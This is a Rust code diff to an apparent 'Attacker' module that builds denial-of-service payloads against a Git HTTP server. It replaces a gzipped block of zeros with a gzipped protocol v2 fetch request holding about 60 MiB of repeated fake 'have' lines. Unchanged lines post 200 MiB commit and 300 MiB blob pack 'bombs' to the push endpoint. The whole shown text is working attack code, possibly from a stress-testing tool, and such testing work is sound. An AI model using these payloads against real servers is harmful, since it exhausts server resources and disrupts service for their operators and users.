@@ -43,7 +43,7 @@ impl Attack {
 
     pub(crate) fn what(self) -> &'static str {
         match self {
-            Self::Inflating => "64 gzipped negotiations of 64 KB at a time, each of 60 MiB",
+            Self::Inflating => "64 gzipped negotiations of 183 KB at a time, each of 60 MiB",
             Self::Commit => "packs of 204 KB with a commit of 200 MiB, one after the other",
             Self::Commits => "16 of these at a time",
             Self::Blobs => "4 packs of 306 KB at a time, each with a blob of 300 MiB",
@@ -92,7 +92,9 @@ impl Attacker {
         let plan = match attack {
             Attack::Inflating => {
                 let headers = ["Content-Encoding: gzip", "Git-Protocol: version=2"].map(ToOwned::to_owned).into();
-                post(FETCH, headers, gzip(&vec![0; 60 * MIB])?)
+                let have = format!("0032have {}\n", "1".repeat(40));
+                let head = b"0011command=fetch0001".to_vec();
+                post(FETCH, headers, gzip(&[head, have.repeat(60 * MIB / have.len()).into_bytes()].concat())?)
             }
             Attack::Commit | Attack::Commits => post(PUSH, Vec::new(), bomb(folder, "commit", 200 * MIB)?),
             Attack::Blobs => post(PUSH, Vec::new(), bomb(folder, "blob", 300 * MIB)?),
